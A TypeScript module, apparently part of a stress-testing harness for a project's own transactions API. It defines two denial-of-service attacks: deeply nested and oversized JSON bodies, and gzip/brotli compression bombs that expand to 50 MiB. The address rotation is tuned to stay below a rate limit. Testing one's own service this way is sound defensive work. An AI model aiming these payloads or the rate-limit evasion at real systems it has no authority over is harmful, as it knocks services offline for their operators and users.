/** Bodies that cost more to parse than to send. */
import { brotliCompressSync, gzipSync } from "node:zlib";
import { present } from "../../../packages/node/src/platform/present.ts";
import { clientAddresses } from "../addresses.ts";
import type { Attack } from "../attack-definition.ts";
import { repeat, send } from "../requests.ts";

const MIB = 1024 * 1024;
const DEPTH = 4_500;
const EMPTY_OBJECTS = 340_000;
/** Requests of one address, below the rate limit of a minute. */
const REQUESTS_PER_ADDRESS = 80;

const nested = `${"[".repeat(DEPTH)}${"]".repeat(DEPTH)}`;
const deepAndWide = `{"transactions":[${nested},[${Array(EMPTY_OBJECTS).fill("{}").join(",")}]]}`;
const manyMembers = `{"transactions":[{${Array.from({ length: 80_000 }, (_, index) => `"k${index}":0`).join(",")}}]}`;
const longNumbers = `{"transactions":[${"9".repeat(MIB - 100)}]}`;

export const deepBodies: Attack = {
  name: "deep bodies",
  description: "1 MB of nested arrays, empty objects, members and digits in POST /api/transactions",
  async run(target, tally, signal) {
    const addresses = clientAddresses(20);
    const bodies = [deepAndWide, manyMembers, longNumbers];
    let [from, sent] = [addresses.next(), 0];
    await repeat({ atOnce: 4, pauseMs: 20 }, signal, async () => {
      sent += 1;
      if (sent % REQUESTS_PER_ADDRESS === 0) from = addresses.next();
      await send(target, tally, {
        path: "/api/transactions",
        from,
        body: present(bodies[sent % bodies.length]),
      });
    });
  },
};

export const compressedBodies: Attack = {
  name: "compressed bodies",
  description: "bodies of 50 MiB in a few kB of gzip and brotli",
  async run(target, tally, signal) {
    const addresses = clientAddresses(21);
    const plain = Buffer.alloc(50 * MIB, " ");
    const bodies = [
      ["gzip", gzipSync(plain)],
      ["br", brotliCompressSync(plain, { params: {} })],
    ] as const;
    let sent = 0;
    await repeat({ atOnce: 4, pauseMs: 20 }, signal, async () => {
      const [encoding, body] = present(bodies[sent++ % bodies.length]);
      const headers = { "content-encoding": encoding };
      await send(target, tally, { path: "/api/transactions", from: addresses.next(), headers, body });
    });
  },
};
